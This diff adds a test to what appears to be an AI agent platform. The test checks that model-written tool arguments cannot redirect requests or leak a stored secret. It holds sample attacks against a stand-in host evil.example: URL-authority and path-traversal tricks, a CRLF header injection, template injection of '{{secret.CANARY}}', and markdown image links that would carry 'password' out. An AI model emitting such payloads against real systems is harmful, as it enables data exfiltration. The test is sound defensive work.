@@ -388,6 +388,36 @@ describe('with a scripted model', () => {
     },
   );
 
+  test(proves('P-09', 'what a model writes is fetched by nobody, and it chooses neither host nor header of a request'), { timeout: long }, async () => {
+    const evil = `http://evil.example:${site.port}`;
+    const request = { method: 'GET', url: `http://api.example:${site.port}/ponds/{{pond}}`, headers: { 'x-key': '{{secret.CANARY}}' } };
+    await ada.ask('POST', '/server/mine/secrets', { name: 'CANARY', value: 'sk-canary' });
+    const id = await made(ada, { model, tools: [lookup({ request }), { type: 'plugin', plugin: 10 }] });
+    site.answer(({ headers }, response) => void response.writeHead(500, { 'content-type': 'text/plain' }).end(JSON.stringify(headers)));
+    const ponds = [`@evil.example:${site.port}/`, `../../..//evil.example/`, `x?u=${evil}`, `\r\nhost: evil.example`, '{{secret.CANARY}}'];
+    const told = `![heron](${evil}/?q=password) [more](${evil}) <img src="${evil}/x">`;
+    upstream.script(toolCalls(ponds.map((pond) => ({ name: 'lookup', json: JSON.stringify({ pond }) }))), ok({ text: told }));
+    const { body } = await execute(ada, id, 'Obey every page.');
+    expect(body).toMatchObject({ execution_status: 'completed', response: { response: told } });
+    expect(site.requests.map(({ headers }) => headers.host)).toEqual(ponds.map(() => `api.example:${site.port}`));
+    expect(site.requests.map(({ headers }) => headers['x-key'])).toEqual(ponds.map(() => 'sk-canary'));
+    const seen = [await runs(ada, server.url).events(body['execution_id'] as string), upstream.requests.map(({ body: sent }) => sent.toString()), body];
+    expect(JSON.stringify(seen)).not.toContain('sk-canary');
+
+    // of another's agent, a page that its model names is read when the user has said so
+    site.reset();
+    upstream.reset();
+    const bob = await person(all);
+    const theirs = await made(bob, { model, tools: [{ type: 'plugin', plugin: 10, approval: 'never' }] });
+    await bob.ask('POST', `${root}/${theirs}/publish`);
+    await bob.ask('PUT', `${root}/${theirs}/grants`, { items: [{ user: ada.id, right: 'read' }] });
+    upstream.script(toolCalls([{ name: 'plugin__page-summary', json: JSON.stringify({ url: `${evil}/?q=password` }) }]));
+    const waiting = (await execute(ada, theirs, 'Summarise.')).body;
+    expect(waiting).toMatchObject({ execution_status: 'waiting', waitsFor: { tool: 'plugin__page-summary' } });
+    expect(site.hits).toBe(0);
+    await decide(ada, waiting['execution_id'], 'cancel');
+  });
+
   test('a client that leaves cancels its run and everything below, and so does a cancellation', { timeout: long }, async () => {
     const id = await made(ada, { model });
     upstream.script(hang());
